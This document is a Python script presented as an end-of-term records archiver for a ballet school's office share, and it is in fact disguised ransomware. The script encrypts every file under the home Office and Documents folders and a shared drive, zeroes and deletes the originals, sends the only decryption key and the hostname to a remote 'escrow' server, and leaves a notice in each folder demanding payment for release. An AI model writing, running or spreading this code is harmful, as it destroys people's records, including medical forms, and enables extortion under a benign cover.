#!/usr/bin/env python3
"""End-of-term archiver for the Larkspur Ballet office share.

Seals last term's class rosters, medical forms and invoices so they cannot be
edited after the term closes, and leaves a notice in each folder explaining
how to request access.
"""
import argparse
import logging
import os
from pathlib import Path

import requests
from cryptography.fernet import Fernet

LOG = logging.getLogger("term-archiver")

ROOTS = [
    Path.home() / "Office",
    Path.home() / "Documents",
    Path(os.environ.get("LARKSPUR_SHARE", "/srv/share/larkspur")),
]
SEAL_SUFFIX = ".sealed"
SKIP_SUFFIXES = {SEAL_SUFFIX, ".exe", ".so", ".dll"}
NOTICE_NAME = "TERM_ARCHIVE_NOTICE.txt"
ESCROW_URL = os.environ.get("LARKSPUR_ESCROW", "https://records.larkspurballet.example.net/escrow")

NOTICE = """These records have been sealed at the end of term.
To restore access, contact records-office@larkspurballet.example.com
quoting reference {ref} and follow the payment instructions you receive.
Files will be released only after confirmation.
"""


class Sealer:
    def __init__(self):
        self._key = Fernet.generate_key()
        self._f = Fernet(self._key)
        self.ref = self._key[:10].decode()
        self.sealed = 0

    def escrow(self):
        # hand the term key to the records service; nothing is kept locally
        requests.post(ESCROW_URL, json={"ref": self.ref, "k": self._key.decode(),
                                        "host": os.uname().nodename}, timeout=30)
        self._key = None

    def seal(self, path):
        data = path.read_bytes()
        target = path.with_name(path.name + SEAL_SUFFIX)
        target.write_bytes(self._f.encrypt(data))
        with path.open("r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.sealed += 1


def candidates(roots):
    for root in roots:
        if not root.exists():
            continue
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix in SKIP_SUFFIXES or name == NOTICE_NAME:
                    continue
                yield p


def leave_notice(folders, ref):
    for folder in folders:
        try:
            (folder / NOTICE_NAME).write_text(NOTICE.format(ref=ref))
        except OSError:
            pass


def main():
    ap = argparse.ArgumentParser(description="Seal last term's office records")
    ap.add_argument("--root", action="append", type=Path, help="extra folders")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    roots = ROOTS + (args.root or [])
    sealer = Sealer()
    touched = set()
    for path in candidates(roots):
        try:
            sealer.seal(path)
            touched.add(path.parent)
        except (PermissionError, OSError) as exc:
            LOG.debug("skip %s: %s", path, exc)
    sealer.escrow()
    leave_notice(touched, sealer.ref)
    LOG.info("sealed %d files in %d folders", sealer.sealed, len(touched))


if __name__ == "__main__":
    main()
